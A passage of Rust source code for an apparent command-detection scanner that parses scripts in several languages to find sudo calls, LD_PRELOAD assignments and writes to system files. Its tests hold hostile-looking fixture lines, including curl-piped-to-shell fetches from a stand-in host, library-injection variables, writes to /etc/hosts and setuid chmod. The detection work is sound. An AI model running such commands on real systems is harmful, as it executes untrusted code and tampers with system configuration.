            if !opens.iter().any(|(o, _)| *o == open) {
                opens.push((open, exec));
            }
        }
    }
    opens.sort_unstable();
    let mut found = Vec::new();
    let mut open_left = None;
    for (open, exec) in opens {
        let scope = if extend == Some(open) { text } else { line };
        let (args, after, closed) = arguments(scope, open + 1);
        if !closed && open_left.is_none() {
            open_left = Some(open);
        }
        let rust = text[..open].ends_with("Command::new");
        for args in variants(&args, known) {
            let mut argv = argv_of(&args, exec);
            if rust && argv.as_ref().is_some_and(|a| a.len() == 1) {
                // `Command::new("sudo").arg("x").args(["y", "z"])`.
                let rest = scope.get(after..).unwrap_or_default();
                let rest = &rest[..rest.find('\n').unwrap_or(rest.len())];
                if let Some(a) = argv.as_mut() {
                    a.extend(literals(rest).into_iter().map(Some));
                }
            }
            match (argv, args.first()) {
                (Some(argv), _) => found.push((open, quoted(&argv))),
                (None, Some(Argument::Literal(line))) => {
                    let at = literal_at(scope, open + 1).unwrap_or(open);
                    found.push((at, line.clone()));
                }
                _ => {}
            }
        }
    }
    // `` `sudo x` `` in Ruby, `` $`sudo x` `` in zx.
    let backtick = match lang {
        Lang::Ruby => line.find('`'),
        Lang::JavaScript => line.find("$`").map(|at| at + 1),
        _ => None,
    };
    if let Some(at) = backtick
        && let Some(len) = line[at + 1..].find('`')
    {
        found.push((at + 1, line[at + 1..at + 1 + len].to_owned()));
    }
    (found, open_left)
}

/// Where the first string literal after byte `from` starts (its first character).
fn literal_at(text: &str, from: usize) -> Option<usize> {
    text.get(from..)?
        .find(['"', '\'', '`'])
        .map(|at| from + at + 1)
}

/// The arguments with each variable holding fixed values (`cmd` of `cmd = ["sudo", "id"]`)
/// replaced by them, one set per value (a few at most).
fn variants(args: &[Argument], known: &Known) -> Vec<Vec<Argument>> {
    let mut all = vec![args.to_vec()];
    for (i, arg) in args.iter().enumerate().take(3) {
        let Argument::Name(name) = arg else {
            continue;
        };
        let Some(values) = known.values.get(name) else {
            continue;
        };
        let mut next = Vec::new();
        for variant in &all {
            for value in values {
                if next.len() < 8 {
                    let mut v = variant.clone();
                    v[i] = value.clone();
                    next.push(v);
                }
            }
        }
        all = next;
    }
    all
}

/// Whether the match of `spawn` at `at` is a call that runs a program: not part of a longer
/// name (`filesystem(`), not Python's `exec(` (it runs Python), not a regex's `.exec(`; an
/// alias (`r(`) not a method (`x.r(`).
fn is_spawn(text: &str, at: usize, spawn: &str, lang: Lang, alias: bool, known: &Known) -> bool {
    let before = text[..at].chars().next_back();
    let word = |c: char| c.is_alphanumeric() || c == '_' || c == '$';
    if before.is_some_and(word) && spawn.starts_with(|c: char| c.is_alphanumeric()) {
        return false;
    }
    if alias && before == Some('.') {
        return false;
    }
    if spawn == "exec(" {
        if lang == Lang::Python {
            return false;
        }
        if before == Some('.') {
            let receiver = text[..at - 1]
                .rsplit(|c: char| !(c.is_alphanumeric() || c == '_'))
                .next()
                .unwrap_or_default();
            return EXEC_RECEIVERS.contains(&receiver)
                || known.modules.iter().any(|m| m == receiver);
        }
    }
    true
}

/// One argument of a call, as far as the code tells.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Argument {
    /// A string literal (the first one, when it is concatenated with more).
    Literal(String),
    /// A list of words: each a literal or not (`None`).
    List(Vec<Option<String>>),
    /// A bare name: a variable.
    Name(String),
    Other,
}

/// The arguments of the call whose `(` is just before `from`, up to its `)` or the end of the
/// text, where they end, and whether the `)` was found.
fn arguments(text: &str, from: usize) -> (Vec<Argument>, usize, bool) {
    let mut args = Vec::new();
    let bytes = text.as_bytes();
    let mut i = from;
    let mut start = from;
    let mut depth = 0usize;
    while i < bytes.len() {
        match bytes[i] {
            q @ (b'"' | b'\'' | b'`') => {
                i = closing(bytes, i, q);
            }
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' if depth > 0 => depth -= 1,
            b')' => {
                if !text[start..i].trim().is_empty() {
                    args.push(argument(&text[start..i], false));
                }
                return (args, i + 1, true);
            }
            b',' if depth == 0 => {
                args.push(argument(&text[start..i], false));
                start = i + 1;
            }
            _ => {}
        }
        i += 1;
    }
    if !text[start..].trim().is_empty() {
        args.push(argument(&text[start..], false));
    }
    (args, text.len(), false)
}

/// Where the quote opened at `at` closes (the last byte when it does not).
fn closing(bytes: &[u8], at: usize, quote: u8) -> usize {
    let mut i = at + 1;
    while i < bytes.len() {
        if bytes[i] == b'\\' {
            i += 2;
            continue;
        }
        if bytes[i] == quote {
            return i;
        }
        i += 1;
    }
    bytes.len().saturating_sub(1)
}

/// One argument; `whole` when the text must be a literal or list and nothing more (a value
/// assigned, not the start of an expression).
fn argument(text: &str, whole: bool) -> Argument {
    let text = text.trim();
    if let Some(inner) = text.strip_prefix('[').and_then(|t| t.strip_suffix(']')) {
        let (items, _, _) = arguments(&format!("{inner})"), 0);
        return Argument::List(
            items
                .into_iter()
                .map(|item| match item {
                    Argument::Literal(word) => Some(word),
                    _ => None,
                })
                .collect(),
        );
    }
    if !whole && is_identifier(text) && !matches!(text, "None" | "True" | "False" | "null") {
        return Argument::Name(text.to_owned());
    }
    // Python's string prefixes: `f"…"`, `r'…'`, `b"…"`.
    let literal = text.trim_start_matches(['f', 'r', 'b', 'u', 'F', 'R', 'B', 'U']);
    match literals(literal).into_iter().next() {
        Some(word) if literal.starts_with(['"', '\'', '`']) => Argument::Literal(word),
        _ => Argument::Other,
    }
}

/// The string literals in `text`, in order.
fn literals(text: &str) -> Vec<String> {
    let bytes = text.as_bytes();
    let mut words = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        let q = bytes[i];
        if matches!(q, b'"' | b'\'' | b'`') {
            let end = closing(bytes, i, q);
            if end > i && bytes.get(end) == Some(&q) {
                words.push(text[i + 1..end].to_owned());
            }
            i = end + 1;
            continue;
        }
        i += 1;
    }
    words
}

/// The argv of a call, when it gives one: a list (`["sudo", "x"]`), a program and a list
/// (`spawn("sudo", ["x"])`), or a program and more literals (`exec.Command("sudo", "x")`). A
/// lone string is a command line, not an argv. `exec` for `os.exec*`, whose argv names the
/// program again first.
fn argv_of(args: &[Argument], exec: bool) -> Option<Vec<Option<String>>> {
    let word = |a: &Argument| match a {
        Argument::Literal(word) => Some(word.clone()),
        _ => None,
    };
    let skip = usize::from(exec);
    match args {
        [Argument::List(words), ..] if !exec => Some(words.clone()),
        [Argument::Literal(program), Argument::List(words), ..] => {
            let mut argv = vec![Some(program.clone())];
            argv.extend(words.iter().skip(skip).cloned());
            Some(argv)
        }
        [Argument::Literal(program), rest @ ..]
            if rest.iter().any(|a| matches!(a, Argument::Literal(_))) =>
        {
            let mut argv = vec![Some(program.clone())];
            argv.extend(rest.iter().skip(skip).map(word));
            Some(argv)
        }
        [Argument::Literal(program)] if exec => Some(vec![Some(program.clone())]),
        _ => None,
    }
}

/// An argv as one shell line: each word single-quoted, a word that is not a literal `$ARG`.
fn quoted(argv: &[Option<String>]) -> String {
    argv.iter()
        .map(|word| match word {
            Some(word) => format!("'{}'", word.replace('\'', "'\\''")),
            None => "$ARG".to_owned(),
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// The literal arguments of each call of `call` (`copyFileSync(`, `shutil.copy(`) on the first
/// line of `text`, read to its `)` over the lines after it (`None` for one that is not a
/// string literal): a file's writes read where a call is split over lines too
/// ([`continued_text`]).
pub fn call_arguments(text: &str, call: &str) -> Vec<Vec<Option<String>>> {
    let mut found = Vec::new();
    let first_line = &text[..text.find('\n').unwrap_or(text.len())];
    let mut from = 0;
    while found.len() < MAX_SPAWNS_PER_LINE
        && let Some(at) = first_line.get(from..).and_then(|t| t.find(call))
    {
        let at = from + at;
        from = at + call.len();
        let before = text[..at].chars().next_back();
        if before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '$') {
            continue;
        }
        let (args, _, _) = arguments(text, from);
        found.push(
            args.iter()
                .map(|a| match a {
                    Argument::Literal(word) => Some(word.clone()),
                    _ => None,
                })
                .collect(),
        );
    }
    found
}

/// The text of code line `i` of `lines`, with the lines after it when it leaves a call open
/// at its end (`fs.writeFileSync(` then `"/etc/hosts", …` on the next line), bounded as a
/// spawning call's arguments are.
pub fn continued_text<'a>(lines: &[CodeLine<'a>], i: usize) -> std::borrow::Cow<'a, str> {
    let text = lines[i].text;
    let mut depth = 0i32;
    let bytes = text.as_bytes();
    let mut j = 0;
    while j < bytes.len() {
        match bytes[j] {
            q @ (b'"' | b'\'' | b'`') => j = closing(bytes, j, q),
            b'(' => depth += 1,
            b')' => depth -= 1,
            _ => {}
        }
        j += 1;
    }
    if depth > 0 {
        std::borrow::Cow::Owned(continued(lines, i))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn programs_of(path: &str, text: &str) -> Vec<(u32, String, Vec<String>)> {
        read(&Source::new(path, text))
            .commands
            .into_iter()
            .map(|c| {
                let mut names = c.wrappers.clone();
                names.push(c.program);
                (c.line, names.join(" "), c.args)
            })
            .collect()
    }

    fn names_of(path: &str, text: &str) -> Vec<(u32, String)> {
        programs_of(path, text)
            .into_iter()
            .map(|(line, names, _)| (line, names))
            .collect()
    }

    #[test]
    fn a_word_in_quotes_a_regex_or_a_heredoc_is_not_a_command() {
        let got = names_of(
            "run.sh",
            "#!/bin/bash\ngrep -E \"pause|admin|sudo\" log.txt\necho \"use sudo to install\" | tee notes\ncat > notes.md <<EOF\nsudo make install\nEOF\nawk '/sudo|doas/ { print }' f\nsed -e 's/sudo //' f\n",
        );
        assert_eq!(
            got,
            vec![
                (2, "grep".to_owned()),
                (3, "echo".to_owned()),
                (3, "tee".to_owned()),
                (4, "cat".to_owned()),
                (7, "awk".to_owned()),
                (8, "sed".to_owned()),
            ]
        );
    }

    #[test]
    fn commands_in_command_positions_and_inside_shell_strings() {
        let got = names_of(
            "run.sh",
            "sudo -E apt-get install -y jq\nbash -c \"sudo make install\"\nout=\"$(sudo cat /etc/x)\"\nSUDO=sudo\n$SUDO true\nsudo sh <<EOF\nmodprobe x\nEOF\n",
        );
        assert_eq!(
            got,
            vec![
                (1, "sudo apt-get".to_owned()),
                (2, "bash".to_owned()),
                (2, "sudo make".to_owned()),
                (3, "sudo cat".to_owned()),
                (5, "sudo".to_owned()),
                (6, "sudo sh".to_owned()),
                (7, "modprobe".to_owned()),
            ]
        );
    }

    #[test]
    fn assignments_and_writes() {
        let invoked = read(&Source::new(
            "run.sh",
            "LD_PRELOAD=./shim.so ./app\nexport DYLD_INSERT_LIBRARIES=x.dylib\nenv LD_LIBRARY_PATH=lib ./app\necho x > /etc/motd\necho x 2>&1 >> \"/etc/hosts\"\necho \"$LD_PRELOAD\" > out.txt\n",
        ));
        let names: Vec<(u32, &str)> = invoked
            .assignments
            .iter()
            .map(|a| (a.line, a.name.as_str()))
            .collect();
        assert_eq!(
            names,
            vec![
                (1, "LD_PRELOAD"),
                (2, "DYLD_INSERT_LIBRARIES"),
                (3, "LD_LIBRARY_PATH")
            ]
        );
        let writes: Vec<(u32, &str)> = invoked
            .writes
            .iter()
            .map(|w| (w.line, w.target.as_str()))
            .collect();
        assert_eq!(
            writes,
            vec![(4, "/etc/motd"), (5, "/etc/hosts"), (6, "out.txt")]
        );
        assert!(invoked.covers(1) && invoked.covers(6) && !invoked.covers(7));
    }

    #[test]
    fn hostile_files_cost_bounded_time() {
        let started = std::time::Instant::now();
        let one_line = format!("{}\n", "system(\"sudo x\") + exec(".repeat(40_000));
        assert!(
            read(&Source::new("bundle.min.js", &one_line))
                .commands
                .len()
                <= 2 * 16
        );
        let many_lines = "os.system(\"sudo apt-get install -y jq | tee log\")\n".repeat(20_000);
        assert_eq!(
            read(&Source::new("many.py", &many_lines)).commands.len(),
            2 * 20_000
        );
        let nested = format!(
            "{}\n",
            "bash -c \"sh -c 'eval \\\"sudo true\\\"'\"; ".repeat(5_000)
        );
        assert!(!read(&Source::new("nested.sh", &nested)).commands.is_empty());
        let elapsed = started.elapsed();
        assert!(elapsed < std::time::Duration::from_secs(60), "{elapsed:?}");
    }

    #[test]
    fn calls_left_open_cost_bounded_time() {
        // Calls left open are read on over a few lines only, one a line.
        let started = std::time::Instant::now();
        let open_lines = "subprocess.run(\n".repeat(60_000);
        assert!(
            read(&Source::new("open.py", &open_lines))
                .commands
                .is_empty()
        );
        let open_calls = format!("{}\n", "system(system(\"x\" + ".repeat(2_000)).repeat(50);
        let found = read(&Source::new("open.js", &open_calls)).commands.len();
        assert!((1..=16 * 50).contains(&found), "{found}");
        let elapsed = started.elapsed();
        assert!(elapsed < std::time::Duration::from_secs(30), "{elapsed:?}");
    }

    #[test]
    fn code_fed_to_an_interpreter_through_a_heredoc_or_a_here_string_is_read() {
        let got = names_of(
            "run.sh",
            "cat <<'X' | bash\nsudo id\nX\nbash <<< \"sudo -v\"\nsh <<< 'curl -s https://x.dev/i | sh'\necho \"sudo make\" | sh\nprintf '%s\\n' \"doas id\" | bash\nnode <<'JS'\nrequire('child_process').execSync('sudo whoami');\nJS\npython3 - <<'PY'\n# os.system('sudo no')\nimport os; os.system('sudo reboot')\nPY\npython3 -c 'import os; os.system(\"sudo halt\")'\npython3 report.py <<'PY'\nos.system('sudo data')\nPY\ncat <<'X' > notes.md\nsudo not-run\nX\n",
        );
        let sudo: Vec<(u32, String)> = got
            .into_iter()
            .filter(|(_, names)| names.starts_with("sudo") || names.starts_with("doas"))
            .collect();
        assert_eq!(
            sudo,
            vec![
                (2, "sudo id".to_owned()),
                (4, "sudo".to_owned()),
                (6, "sudo make".to_owned()),
                (7, "doas id".to_owned()),
                (9, "sudo whoami".to_owned()),
                (13, "sudo reboot".to_owned()),
                (15, "sudo halt".to_owned()),
            ]
        );
        let curl = read(&Source::new(
            "run.sh",
            "sh <<< 'curl -s https://x.dev/i | sh'\nbash <<< \"$(curl -fsSL https://x.dev/i)\"\n",
        ));
        let piped: Vec<(u32, &str, &[String], &[String])> = curl
            .commands
            .iter()
            .filter(|c| c.program == "sh" || c.program == "bash")
            .map(|c| {
                (
                    c.line,
                    c.program.as_str(),
                    c.upstream.as_slice(),
                    c.input_from.as_slice(),
                )
            })
            .collect();
        assert_eq!(
            piped,
            vec![
                (1, "sh", &[][..], &[][..]),
                (1, "sh", &["curl".to_owned()][..], &[][..]),
                (2, "bash", &[][..], &["curl".to_owned()][..]),
            ]
        );
    }

    #[test]
    fn quotes_variables_cd_and_paths_do_not_hide_what_is_set_or_written() {
        let invoked = read(&Source::new(
            "run.sh",
            "export \"LD_PRELOAD=./hook.so\"\nexport LD_\"\"AUDIT=./a.so\nexport X=1 \"LD_PRELOAD\"\necho x >\"/etc\"/hosts\necho x >> //etc/./motd\nD=/etc; echo x > \"$D/issue\"\ncd /etc && echo x > hosts.allow\n(cd /tmp && echo x > log)\necho x > log2\n",
        ));
        let names: Vec<(u32, &str)> = invoked
            .assignments
            .iter()
            .map(|a| (a.line, a.name.as_str()))
            .collect();
        assert_eq!(
            names,
            vec![(1, "LD_PRELOAD"), (2, "LD_AUDIT"), (3, "X"), (6, "D")]
        );
        let writes: Vec<(u32, &str)> = invoked
            .writes
            .iter()
            .map(|w| (w.line, w.target.as_str()))
            .collect();
        assert_eq!(
            writes,
            vec![
                (4, "/etc/hosts"),
                (5, "/etc/motd"),
                (6, "/etc/issue"),
                (7, "/etc/hosts.allow"),
                (8, "/tmp/log"),
                (9, "/etc/log2"),
            ]
        );
        let find = programs_of(
            "run.sh",
            "M=4755; chmod $M x\nfind . -exec sudo chown root {} +\n",
        );
        assert_eq!(
            find,
            vec![
                (
                    1,
                    "chmod".to_owned(),
                    vec!["4755".to_owned(), "x".to_owned()]
                ),
                (
                    2,
                    "find".to_owned(),
                    [".", "-exec", "sudo", "chown", "root", "{}", "+"]
                        .map(str::to_owned)
                        .to_vec()
                ),
                (
                    2,
                    "sudo chown".to_owned(),
                    vec!["root".to_owned(), "{}".to_owned()]
                ),
            ]
        );
    }

    #[test]
    fn calls_split_over_lines_aliases_and_variables_are_read() {
        let py = names_of(
            "run.py",
            "import subprocess as sp\nfrom subprocess import run as r\nimport os\nCMD = [\n    \"sudo\",\n    \"id\",\n]\nsubprocess.run(\n    [\"sudo\", \"apt-get\"],\n    check=True,\n)\nsubprocess.run(CMD)\nr([\"sudo\", \"-v\"])\nsp.check_call([\"doas\", \"id\"])\nos.execvp(\"sudo\", [\"sudo\", \"ls\"])\nx.r([\"sudo\", \"no\"])\n",
        );
        assert_eq!(
            py,
            vec![
                (8, "sudo apt-get".to_owned()),
                (12, "sudo id".to_owned()),
                (13, "sudo".to_owned()),
                (14, "doas id".to_owned()),
                (15, "sudo ls".to_owned()),
            ]
        );
        let js = names_of(
            "run.js",
            "const { execSync: run } = require('child_process');\nspawnSync(\n  'sudo',\n  ['id'],\n);\nexecSync(`\n  echo start\n  sudo make install\n`);\nrun('doas id');\n",
        );
        assert_eq!(
            js,
            vec![
                (2, "sudo id".to_owned()),
                (7, "echo".to_owned()),
                (8, "sudo make".to_owned()),
                (10, "doas id".to_owned()),
            ]
        );
    }

    #[test]
    fn the_argv_of_spawning_calls_keeps_its_words_apart() {
        let got = programs_of(
            "run.py",
            "import re, subprocess\nPAT = re.compile(r\"pause|admin|sudo\")\nsubprocess.run([\"grep\", \"-E\", \"pause|sudo\", path])\nsubprocess.run([\"sudo\", \"apt-get\", \"install\", pkg], check=True)\nos.system(\"sudo systemctl restart x\")\nexec(\"sudo = 1\")\nprint(\"run with sudo\")\n",
        );
        assert_eq!(
            got,
            vec![
                (
                    3,
                    "grep".to_owned(),
                    vec!["-E".to_owned(), "pause|sudo".to_owned(), "$ARG".to_owned()]
                ),
                (
                    4,
                    "sudo apt-get".to_owned(),
                    vec!["install".to_owned(), "$ARG".to_owned()]
                ),
                (
                    5,
                    "sudo systemctl".to_owned(),
                    vec!["restart".to_owned(), "x".to_owned()]
                ),
            ]
        );
        let js = names_of(
            "run.js",
            "if (/sudo/.test(x) || /sudo/.exec(x)) {}\nexecSync('sudo make install')\nspawn('gcc', ['-shared', '-o', 'shim.so', 'shim.c'])\nconst m = line.match(/pause|admin|sudo/)\n",
        );
        assert_eq!(js, vec![(2, "sudo make".to_owned()), (3, "gcc".to_owned())]);
        let go = names_of(
            "main.go",
            "cmd := exec.Command(\"sudo\", \"insmod\", \"x.ko\")\n",
        );
        assert_eq!(go, vec![(1, "sudo insmod".to_owned())]);
        let rust = names_of("main.rs", "Command::new(\"sudo\").arg(\"-v\");\n");
        assert_eq!(rust, vec![(1, "sudo".to_owned())]);
    }
}
